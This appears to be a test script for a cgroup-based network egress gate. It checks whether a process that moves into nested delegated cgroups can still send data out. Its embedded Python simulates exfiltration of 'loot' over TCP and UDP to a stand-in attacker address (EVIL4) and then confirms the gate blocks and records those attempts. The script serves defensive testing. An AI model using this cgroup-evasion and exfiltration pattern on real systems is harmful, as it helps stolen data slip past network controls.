#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes a cgroup below its own, which was delegated to it, enters it, and connects from there; or has been there since before the gate
# stopped-by: connect4, sendmsg4, egress
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000
export CG

attack_by <<'PYTHON'
from attacker import *

def enter(name):
    folder = os.path.join(os.environ["CG"], name)
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/cgroup.procs", "w") as procs:
        procs.write("0")

enter("before/deep")
older = udp(EVIL4)
older.connect((EVIL4, 9000))
ready()
with attempt("before, older"):
    older.send(loot("older"))
with attempt("before"):
    udp(EVIL4).sendto(loot("before"), (EVIL4, 9000))
enter("after/deep")
with attempt("after, tcp"):
    sock = tcp(EVIL4)
    sock.connect((EVIL4, 443))
    sock.sendall(loot("after-tcp"))
with attempt("after, udp"):
    udp(EVIL4).sendto(loot("after-udp"), (EVIL4, 9000))
PYTHON
works_once_open stolen:older stolen:before stolen:after-tcp stolen:after-udp
stopped_once_open gate
recorded connect4 destination
recorded sendmsg4 destination
recorded 'egress|sock_destroy' destination
